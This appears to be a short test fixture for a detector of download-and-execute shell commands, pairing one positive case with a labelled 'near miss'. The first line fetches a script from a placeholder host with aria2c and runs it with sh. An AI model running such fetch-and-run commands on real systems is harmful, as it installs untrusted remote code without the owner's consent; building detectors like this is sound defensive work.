aria2c -o a.sh https://a.invalid/a.sh; sh a.sh
# near misses
aria2c https://a.invalid/a.iso
